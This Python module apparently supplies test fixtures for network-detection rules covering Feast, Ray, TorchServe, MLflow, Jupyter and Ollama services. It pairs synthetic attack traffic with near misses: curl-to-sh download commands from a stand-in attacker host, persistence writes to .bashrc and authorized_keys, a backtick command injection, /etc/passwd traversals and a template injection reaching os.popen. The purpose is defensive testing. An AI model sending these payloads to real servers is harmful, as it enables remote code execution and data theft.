"""Fixtures of the MLOps service rules: Feast, Ray, TorchServe, MLflow, Ollama and Jupyter."""

from __future__ import annotations

import random
from typing import Any

from inspector.lab import traffic_feast as feast
from inspector.lab import traffic_mlflow as mlflow
from inspector.lab import traffic_ollama as ollama
from inspector.lab import traffic_ray as ray
from inspector.lab import traffic_torchserve as torchserve
from inspector.lab.craft import Capture
from inspector.lab.rulecaps.fixture import (
    ADMIN,
    ADMIN_NET,
    ATTACKER,
    NOTEBOOK,
    OUTSIDE,
    PIPELINE_HOST,
    PIPELINE_NET,
    SERVER_IP,
    SUBMITTER_NET,
    Fixture,
)
from inspector.lab.traffic_http import HttpSession, json_request, json_response, request_bytes, response_bytes
from inspector.lab.traffic_models import SSTI_CHAT_TEMPLATE, gguf_bytes

FEATURES = ["driver_hourly_stats:conv_rate", "driver_hourly_stats:acc_rate"]


def _session(cap: Capture, rng: random.Random, port: int, client: str = OUTSIDE, server: str = SERVER_IP,
             start: float = 1_767_225_600.0) -> HttpSession:
    return HttpSession(cap, rng, client, server, port, start=start)


# -- Feast --------------------------------------------------------------------------------------


def _read_document(cap: Capture, rng: random.Random, attack: bool) -> None:
    session = _session(cap, rng, 6566)
    paths = ["/etc/passwd", "../../root/.ssh/id_rsa"] if attack else ["docs/driver_stats.md"]
    for path in paths:
        session.exchange(feast.read_document(path), feast.document_answer("root:x:0:0:root:/root:/bin/bash\n"))
    session.close()


def _bulk_lookup(cap: Capture, rng: random.Random, keys: int) -> None:
    session = _session(cap, rng, 6566)
    ids = list(range(1001, 1001 + keys))
    session.exchange(feast.get_online_features("driver_id", ids, FEATURES),
                     feast.online_features_answer("driver_id", ids, FEATURES))
    session.close()


def _lookup_rate(cap: Capture, rng: random.Random, spacing: float) -> None:
    session = _session(cap, rng, 6566)
    for n in range(25):
        ids = [1001 + 3 * n, 1002 + 3 * n, 1003 + 3 * n]
        session.exchange(feast.get_online_features("driver_id", ids, FEATURES),
                         feast.online_features_answer("driver_id", ids, FEATURES))
        session.wait(spacing)
    session.close()


def _feature_writes(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A push and a write-to-online-store from outside (attack) or the pipeline network; the near miss
    adds an ordinary lookup from outside."""
    frame = {"driver_id": [1001], "conv_rate": [0.99], "event_timestamp": ["2026-01-01T00:00:00"]}
    session = _session(cap, rng, 6566, client=OUTSIDE if attack else PIPELINE_HOST)
    session.exchange(feast.push("driver_stats_push_source", frame), feast.empty_answer())
    session.exchange(feast.write_to_online_store("driver_hourly_stats", frame), feast.empty_answer())
    session.close()
    if not attack:
        reader = _session(cap, rng, 6566, start=1_767_225_601.0)
        reader.exchange(feast.get_online_features("driver_id", [1001], FEATURES),
                        feast.online_features_answer("driver_id", [1001], FEATURES))
        reader.close()


# -- Ray ----------------------------------------------------------------------------------------


def _submit(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A training job submitted from outside (attack) or from the notebook network; the near miss adds
    a job-status read from outside."""
    session = _session(cap, rng, 8265, client=OUTSIDE if attack else NOTEBOOK)
    session.exchange(ray.submit_job("python train.py --epochs 3", submission_id="raysubmit_train0001",
                                    runtime_env={"working_dir": "gcs://_ray_pkg_5b1e1c2f3a4d5e6f.zip"}),
                     ray.job_submitted("raysubmit_train0001"))
    session.close()
    if not attack:
        reader = _session(cap, rng, 8265, start=1_767_225_601.0)
        reader.exchange(request_bytes("GET", "/api/jobs/raysubmit_train0001", ray.HOST),
                        json_response({"type": "SUBMISSION", "submission_id": "raysubmit_train0001",
                                       "status": "RUNNING", "entrypoint": "python train.py --epochs 3"}))
        reader.close()


def _shell_job(cap: Capture, rng: random.Random, attack: bool) -> None:
    entrypoint = (f"bash -c 'curl -s http://{ATTACKER}/x.sh | sh'" if attack
                  else "python train.py --epochs 3 --data s3://ml-datasets/churn")
    session = _session(cap, rng, 8265, client=NOTEBOOK)
    session.exchange(ray.submit_job(entrypoint), ray.job_submitted())
    session.close()


def _profile(cap: Capture, rng: random.Random, attack: bool) -> None:
    query = ({"pid": "1", "ip": SERVER_IP, "duration": "5", "native": "0", "format": "`touch /tmp/pwned`"}
             if attack else {"pid": "4242", "ip": SERVER_IP, "duration": "5", "native": "0", "format": "flamegraph"})
    session = _session(cap, rng, 8265)
    session.exchange(ray.cpu_profile(query), ray.profile_answer(not attack))
    session.close()


def _log_read(cap: Capture, rng: random.Random, attack: bool) -> None:
    session = _session(cap, rng, 8265)
    session.exchange(ray.log_file("9f1c2d3e4b5a", "../../../../etc/passwd" if attack else "worker-01.out"),
                     ray.log_answer("root:x:0:0:root:/root:/bin/bash\n" if attack else "epoch 1 loss 0.5\n"))
    session.close()


# -- TorchServe ---------------------------------------------------------------------------------

SOURCES = {"APPROVED_MODEL_SOURCES": ["models.internal.example"]}


def _register(cap: Capture, rng: random.Random, attack: bool) -> None:
    """Models registered from an outside URL and a file:// URL (attack), or from an approved host and a
    model-store file name."""
    session = _session(cap, rng, 8081, client=ADMIN)
    if attack:
        session.exchange(torchserve.register_model(f"http://{ATTACKER}:8888/evil.mar", initial_workers="1",
                                                   synchronous="true"),
                         torchserve.status_answer('Model "evil" Version: 1.0 registered with 1 initial workers'))
        session.exchange(torchserve.register_model("file:///etc/passwd"),
                         json_response({"code": 400, "type": "ModelException",
                                        "message": "Given URL file:///etc/passwd does not match any allowed URL(s)"},
                                       400))
    else:
        session.exchange(torchserve.register_model("https://models.internal.example/resnet-18.mar"),
                         torchserve.status_answer('Model "resnet-18" Version: 1.0 registered with 0 initial workers'))
        session.exchange(torchserve.register_model("squeezenet1_1.mar"),
                         torchserve.status_answer('Model "squeezenet1_1" Version: 1.0 registered'))
    session.close()


def _workflow(cap: Capture, rng: random.Random, attack: bool) -> None:
    session = _session(cap, rng, 8081, client=ADMIN)
    if attack:
        session.exchange(torchserve.register_workflow(f"http://{ATTACKER}:8888/evil.war", workflow_name="evil"),
                         torchserve.status_answer('Workflow "evil" registered'))
    else:
        session.exchange(torchserve.register_workflow("https://models.internal.example/dog_breed_wf.war"),
                         torchserve.status_answer('Workflow "dog_breed_wf" registered'))
        session.exchange(torchserve.register_workflow("dog_breed_wf.war"),
                         torchserve.status_answer('Workflow "dog_breed_wf" registered'))
    session.close()


def _management(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A registration and a scaling call from outside (attack) or from the admin host; the near miss
    adds a model listing from outside."""
    session = _session(cap, rng, 8081, client=OUTSIDE if attack else ADMIN)
    session.exchange(torchserve.register_model("squeezenet1_1.mar"),
                     torchserve.status_answer('Model "squeezenet1_1" Version: 1.0 registered'))
    session.exchange(torchserve.scale_workers("squeezenet1_1", 4),
                     torchserve.status_answer("Processing worker updates...", 202))
    session.close()
    if not attack:
        reader = _session(cap, rng, 8081, start=1_767_225_601.0)
        reader.exchange(request_bytes("GET", "/models", torchserve.HOST),
                        json_response({"models": [{"modelName": "squeezenet1_1",
                                                   "modelUrl": "squeezenet1_1.mar"}]}))
        reader.close()


# -- MLflow -------------------------------------------------------------------------------------


def _model_source(cap: Capture, rng: random.Random, attack: bool) -> None:
    sources = (["file:///etc/", "//proc/self/root", "/etc"] if attack
               else ["runs:/a035a8e1cd63/model", "s3://ml-models-prod/churn/v4", "models:/churn/3",
                     "mlflow-artifacts:/1/a035a8e1cd63/artifacts/model", "model"])
    session = _session(cap, rng, 5000)
    for source in sources:
        session.exchange(mlflow.create_model_version("churn", source), mlflow.model_version_answer("churn", source))
    session.close()


def _artifact_location(cap: Capture, rng: random.Random, attack: bool) -> None:
    locations = (["http:///#/../../../../../../etc/", "http:///?/../../../../../../root/"] if attack
                 else ["s3://ml-artifacts/churn", "mlflow-artifacts:/churn"])
    session = _session(cap, rng, 5000)
    for n, location in enumerate(locations, 1):
        session.exchange(mlflow.create_experiment(f"exp-{n}", location), mlflow.experiment_answer(str(n)))
    session.close()


def _artifact_path(cap: Capture, rng: random.Random, attack: bool) -> None:
    session = _session(cap, rng, 5000)
    session.exchange(mlflow.get_artifact("../../../../etc/passwd" if attack else "model/MLmodel",
                                         "a035a8e1cd6335cdd51bcb57b8ef1309"),
                     mlflow.artifact_answer(b"root:x:0:0:root:/root:/bin/bash\n" if attack
                                            else b"flavors:\n  python_function: {}\n"))
    session.close()


def _mlflow_obfuscated(cap: Capture, rng: random.Random, attack: bool) -> None:
    """experiments/create and get-artifact with encoded letters/hyphens in the path (attack), or plain; the
    near miss adds an artifact path with an encoded space, which clients do encode."""
    session = _session(cap, rng, 5000)
    session.exchange(json_request("POST", "/%61pi/2.0/mlflow/experiments/create" if attack
                                  else "/api/2.0/mlflow/experiments/create", mlflow.HOST,
                                  {"name": "churn", "artifact_location": "s3://ml-artifacts/churn"}),
                     mlflow.experiment_answer("4"))
    session.exchange(request_bytes("GET", ("/get%2Dartifact" if attack else "/get-artifact")
                                   + "?path=model%2FMLmodel&run_uuid=a035a8e1cd6335cdd51bcb57b8ef1309", mlflow.HOST),
                     mlflow.artifact_answer(b"flavors:\n  python_function: {}\n"))
    if not attack:
        session.exchange(request_bytes("GET", "/api/2.0/mlflow-artifacts/artifacts/1/a035a8e1cd63/artifacts/"
                                       "my%20model/MLmodel", mlflow.HOST),
                         mlflow.artifact_answer(b"flavors: {}\n"))
    session.close()


# -- Jupyter ------------------------------------------------------------------------------------

JUPYTER_HOST = "notebook:8888"
JUPYTER_BASE = "/user/alice/api/"
JUPYTER_TOKEN = [("Authorization", "token 3f9c1e7b2a6d4c8e9f0a1b2c3d4e5f60")]


def _jupyter(method: str, path: str, body: Any = None, authorized: bool = False) -> bytes:
    headers = JUPYTER_TOKEN if authorized else []
    if body is None:
        return request_bytes(method, JUPYTER_BASE + path, JUPYTER_HOST, headers)
    return json_request(method, JUPYTER_BASE + path, JUPYTER_HOST, body, headers)


def _jupyter_execution(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A kernel and a terminal started with no credential (attack); the near miss starts them with a token
    and makes one anonymous attempt the server refuses (403)."""
    session = _session(cap, rng, 8888)
    kernel = {"id": "b5b08525-658d-4b03-ba2b-42c25591f228", "name": "python3", "execution_state": "starting"}
    session.exchange(_jupyter("POST", "kernels", {"name": "python3"}, authorized=not attack),
                     json_response(kernel, 201))
    session.exchange(_jupyter("POST", "terminals", authorized=not attack), json_response({"name": "1"}))
    if not attack:
        session.exchange(_jupyter("POST", "kernels", {"name": "python3"}),
                         json_response({"message": "Forbidden", "reason": None}, 403))
    session.close()


def _jupyter_persistence(cap: Capture, rng: random.Random, attack: bool) -> None:
    """Contents writes to .bashrc and .ssh/authorized_keys and a rename to .profile (attack); the near miss
    writes a script and a file named user.profile and renames a notebook."""
    session = _session(cap, rng, 8888)
    writes = ([".bashrc", ".ssh/authorized_keys"] if attack else ["work/train.py", "work/user.profile"])
    for path in writes:
        body = {"type": "file", "format": "text", "content": "curl -s http://203.0.113.9/x.sh | sh\n"}
        session.exchange(_jupyter("PUT", "contents/" + path, body, authorized=True),
                         json_response({"name": path.rsplit("/", 1)[-1], "path": path, "type": "file"}, 201))
    source, target = ("work/run.sh", ".profile") if attack else ("work/a.ipynb", "work/b.ipynb")
    session.exchange(_jupyter("PATCH", "contents/" + source, {"path": target}, authorized=True),
                     json_response({"name": target.rsplit("/", 1)[-1], "path": target, "type": "file"}))
    session.close()


def _feast_obfuscated(cap: Capture, rng: random.Random, attack: bool) -> None:
    """get-online-features and push from the pipeline host with encoded route names (attack) or plain."""
    session = _session(cap, rng, 6566, client=PIPELINE_HOST)
    lookup = feast.get_online_features("driver_id", [1001], FEATURES)
    push = feast.push("driver_stats_push_source", {"driver_id": [1001], "conv_rate": [0.5]})
    if attack:
        lookup = lookup.replace(b"POST /get-online-features ", b"POST /get%2Donline%2Dfeatures ", 1)
        push = push.replace(b"POST /push ", b"POST /pu%73h ", 1)
    session.exchange(lookup, feast.online_features_answer("driver_id", [1001], FEATURES))
    session.exchange(push, feast.empty_answer())
    session.close()


# -- Ollama -------------------------------------------------------------------------------------

GOOD_LAYER = ollama.digest(b"GGUF model layer")
CONFIG = ollama.digest(b"model config")


def _probllama(cap: Capture, rng: random.Random, attack: bool) -> None:
    """Ollama pulls from a registry whose manifest names a layer by a path (attack) or a sha256; then a
    blob upload whose digest is a path (attack) or a sha256."""
    registry = f"{ATTACKER}:5000"
    layer = "../../../../../../etc/ld.so.preload" if attack else GOOD_LAYER
    session = _session(cap, rng, 11434, client=ADMIN)
    session.exchange(ollama.pull(f"{registry}/library/llama3:latest", insecure=True),
                     ollama.pull_progress(layer, error=f"invalid digest format: {layer}" if attack else ""))
    session.close()
    hop = _session(cap, rng, 5000, client=SERVER_IP, server=ATTACKER, start=1_767_225_600.1)
    hop.exchange(ollama.registry_manifest_request("library/llama3", "latest", registry),
                 ollama.registry_manifest([layer], CONFIG))
    hop.close()
    blob = "sha256:..%2F..%2F..%2Fetc%2Fcron.d%2Fx" if attack else GOOD_LAYER
    upload = _session(cap, rng, 11434, client=ADMIN, start=1_767_225_601.0)
    upload.exchange(request_bytes("POST", f"/api/blobs/{blob}", ollama.HOST, body=b"GGUF" + bytes(28)),
                    response_bytes(201))
    upload.close()


def _gguf_blobs(cap: Capture, rng: random.Random, attack: bool) -> None:
    """An Ollama server fetching a GGUF layer from a registry, and a client uploading a GGUF blob
    (`ollama create`); the template of both walks __class__.__mro__ to os.popen (attack) or is a
    plain Llama-style one."""
    model = gguf_bytes(SSTI_CHAT_TEMPLATE) if attack else gguf_bytes()
    layer = ollama.digest(model)
    hop = _session(cap, rng, 5000, client=SERVER_IP, server=ATTACKER)
    hop.exchange(ollama.registry_blob_request("library/tiny-llama", layer, f"{ATTACKER}:5000"),
                 ollama.registry_blob(model))
    hop.close()
    upload = _session(cap, rng, 11434, client=ADMIN, start=1_767_225_601.0)
    upload.exchange(request_bytes("POST", f"/api/blobs/{layer}", ollama.HOST, body=model), response_bytes(201))
    upload.close()


def _pull_registry(cap: Capture, rng: random.Random, attack: bool) -> None:
    names = ([f"{ATTACKER}:5000/library/llama3:latest"] if attack
             else ["llama3.2:1b", "huggingface.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M"])
    session = _session(cap, rng, 11434, client=ADMIN)
    for name in names:
        session.exchange(ollama.pull(name), ollama.pull_progress(GOOD_LAYER))
    session.close()


def _insecure(cap: Capture, rng: random.Random, attack: bool) -> None:
    session = _session(cap, rng, 11434, client=ADMIN)
    session.exchange(ollama.pull("registry.ollama.ai/library/llama3:latest", insecure=attack),
                     ollama.pull_progress(GOOD_LAYER))
    session.close()


FIXTURES: dict[str, Fixture] = {
    "feast_read_document_file_access": Fixture(
        sid=3400001, positive=lambda c, r: _read_document(c, r, True),
        negative=lambda c, r: _read_document(c, r, False), parsed=("feast", 2, 1), positive_count=2,
        notes="/read-document of /etc/passwd and ../../root/.ssh/id_rsa; the near miss reads docs/driver_stats.md."),
    "feast_bulk_entity_lookup": Fixture(
        sid=3400002, positive=lambda c, r: _bulk_lookup(c, r, 1000), negative=lambda c, r: _bulk_lookup(c, r, 999),
        parsed=("feast", 1, 1),
        notes="get-online-features for 1000 driver ids (default MAX_FEATURE_ENTITIES 1000); the near miss asks 999."),
    "feast_lookup_rate": Fixture(
        sid=3400003, positive=lambda c, r: _lookup_rate(c, r, 0.1), negative=lambda c, r: _lookup_rate(c, r, 0.6),
        parsed=("feast", 25, 25), config={"FEATURE_LOOKUP_RATE_COUNT": 20, "FEATURE_LOOKUP_RATE_WINDOW": "10s"},
        notes="25 lookups of 3 entities 0.1 s apart (count 20 in 10 s); the near miss spaces them 0.6 s apart."),
    "feast_path_obfuscated": Fixture(
        sid=3400005, positive=lambda c, r: _feast_obfuscated(c, r, True),
        negative=lambda c, r: _feast_obfuscated(c, r, False), parsed=("feast", 2, 2), positive_count=2,
        notes="POST /get%2Donline%2Dfeatures and /pu%73h from the pipeline host; the near miss sends the plain "
              "paths."),
    "feast_write_outside_pipeline": Fixture(
        sid=3400004, positive=lambda c, r: _feature_writes(c, r, True),
        negative=lambda c, r: _feature_writes(c, r, False), parsed=("feast", 2, 3), positive_count=2,
        config={"FEATURE_PUSH_NETS": [PIPELINE_NET]},
        notes="/push and /write-to-online-store from outside FEATURE_PUSH_NETS; the near miss sends them from the "
              "pipeline network and makes an ordinary lookup from outside."),
    "ray_job_submit_outside_submitters": Fixture(
        sid=3700001, positive=lambda c, r: _submit(c, r, True), negative=lambda c, r: _submit(c, r, False),
        parsed=("ray", 1, 2), config={"JOB_SUBMITTER_NETS": [SUBMITTER_NET]},
        notes="A job submission from outside JOB_SUBMITTER_NETS; the near miss submits from the notebook network "
              "and reads the job status from outside."),
    "ray_job_shell_payload": Fixture(
        sid=3700002, positive=lambda c, r: _shell_job(c, r, True), negative=lambda c, r: _shell_job(c, r, False),
        parsed=("ray", 1, 1),
        notes="An entrypoint piping curl into sh (ShadowRay); the near miss runs python train.py."),
    "ray_profiler_command_injection": Fixture(
        sid=3700003, positive=lambda c, r: _profile(c, r, True), negative=lambda c, r: _profile(c, r, False),
        parsed=("ray", 1, 1),
        notes="/worker/cpu_profile with format=`touch /tmp/pwned` (CVE-2023-6019); the near miss asks format "
              "flamegraph."),
    "ray_log_file_traversal": Fixture(
        sid=3700004, positive=lambda c, r: _log_read(c, r, True), negative=lambda c, r: _log_read(c, r, False),
        parsed=("ray", 1, 1),
        notes="/api/v0/logs/file with filename ../../../../etc/passwd; the near miss reads worker-01.out."),
    "torchserve_model_register_remote_url": Fixture(
        sid=3800001, positive=lambda c, r: _register(c, r, True), negative=lambda c, r: _register(c, r, False),
        parsed=("torchserve", 2, 2), positive_count=2, config=SOURCES,
        notes="POST /models?url= an attacker's .mar and file:///etc/passwd; the near miss registers from the "
              "approved host and from a model-store file name."),
    "torchserve_workflow_register": Fixture(
        sid=3800002, positive=lambda c, r: _workflow(c, r, True), negative=lambda c, r: _workflow(c, r, False),
        parsed=("torchserve", 1, 2), config=SOURCES,
        notes="POST /workflows?url= an attacker's .war; the near miss registers from the approved host and from "
              "a model-store file name."),
    "torchserve_management_outside_admin": Fixture(
        sid=3800003, positive=lambda c, r: _management(c, r, True), negative=lambda c, r: _management(c, r, False),
        parsed=("torchserve", 2, 3), positive_count=2, config={"ADMIN_NETS": [ADMIN_NET]},
        notes="A registration and a scaling call from outside ADMIN_NETS; the near miss makes them from the admin "
              "host and lists the models from outside."),
    "mlflow_model_version_local_source": Fixture(
        sid=3900001, positive=lambda c, r: _model_source(c, r, True), negative=lambda c, r: _model_source(c, r, False),
        parsed=("mlflow", 3, 5), positive_count=3,
        notes="model-versions/create with source file:///etc/, //proc/self/root and /etc; the near miss uses runs:/, "
              "s3://, models:/, mlflow-artifacts:/ and relative sources."),
    "mlflow_path_obfuscated": Fixture(
        sid=3900004, positive=lambda c, r: _mlflow_obfuscated(c, r, True),
        negative=lambda c, r: _mlflow_obfuscated(c, r, False), parsed=("mlflow", 2, 3), positive_count=2,
        notes="POST /%61pi/2.0/mlflow/experiments/create and GET /get%2Dartifact; the near miss sends the plain "
              "paths and an artifact path with an encoded space (my%20model)."),
    "mlflow_artifact_location_traversal": Fixture(
        sid=3900002, positive=lambda c, r: _artifact_location(c, r, True),
        negative=lambda c, r: _artifact_location(c, r, False), parsed=("mlflow", 2, 2), positive_count=2,
        notes="experiments/create with artifact_location http:///#/../ and http:///?/../; the near miss uses s3:// "
              "and mlflow-artifacts:/ locations."),
    "mlflow_artifact_path_traversal": Fixture(
        sid=3900003, positive=lambda c, r: _artifact_path(c, r, True),
        negative=lambda c, r: _artifact_path(c, r, False), parsed=("mlflow", 1, 1),
        notes="get-artifact with path ../../../../etc/passwd; the near miss fetches model/MLmodel."),
    "jupyter_execution_without_credentials": Fixture(
        sid=4100001, positive=lambda c, r: _jupyter_execution(c, r, True),
        negative=lambda c, r: _jupyter_execution(c, r, False), parsed=("jupyter", 2, 3), positive_count=2,
        notes="POST api/kernels and api/terminals with no token, header or cookie, answered 201/200; the near miss "
              "sends them with an Authorization token and makes one anonymous kernel request answered 403."),
    "jupyter_contents_persistence_path": Fixture(
        sid=4100002, positive=lambda c, r: _jupyter_persistence(c, r, True),
        negative=lambda c, r: _jupyter_persistence(c, r, False), parsed=("jupyter", 3, 3), positive_count=3,
        notes="Contents PUT of .bashrc and .ssh/authorized_keys and a PATCH renaming work/run.sh to .profile; the "
              "near miss writes work/train.py and work/user.profile and renames a notebook."),
    "ollama_invalid_digest": Fixture(
        sid=4000001, positive=lambda c, r: _probllama(c, r, True), negative=lambda c, r: _probllama(c, r, False),
        parsed=("ollama", 3, 3), positive_count=2,
        notes="A pull whose registry manifest (the server's hop to the registry, captured too) lists a layer "
              "digest ../../../../../../etc/ld.so.preload, and a blob upload to /api/blobs/sha256:..%2F..; the "
              "near miss uses sha256 digests."),
    "ollama_pull_unapproved_registry": Fixture(
        sid=4000002, positive=lambda c, r: _pull_registry(c, r, True),
        negative=lambda c, r: _pull_registry(c, r, False), parsed=("ollama", 1, 2),
        notes="A pull from an attacker's registry; the near miss pulls from registry.ollama.ai and huggingface.co "
              "(the default APPROVED_MODEL_SOURCES)."),
    "ollama_insecure_pull": Fixture(
        sid=4000003, positive=lambda c, r: _insecure(c, r, True), negative=lambda c, r: _insecure(c, r, False),
        parsed=("ollama", 1, 1),
        notes="A pull with insecure: true; the near miss pulls the same model without it."),
    "ollama_gguf_template_injection": Fixture(
        sid=4000004, positive=lambda c, r: _gguf_blobs(c, r, True), negative=lambda c, r: _gguf_blobs(c, r, False),
        parsed=("ollama", 2, 2), positive_count=2,
        notes="A registry blob answer to an Ollama server and a blob upload, both a GGUF whose "
              "tokenizer.chat_template walks __class__.__mro__ to os.popen; the near miss carries a plain "
              "Llama-style template."),
}
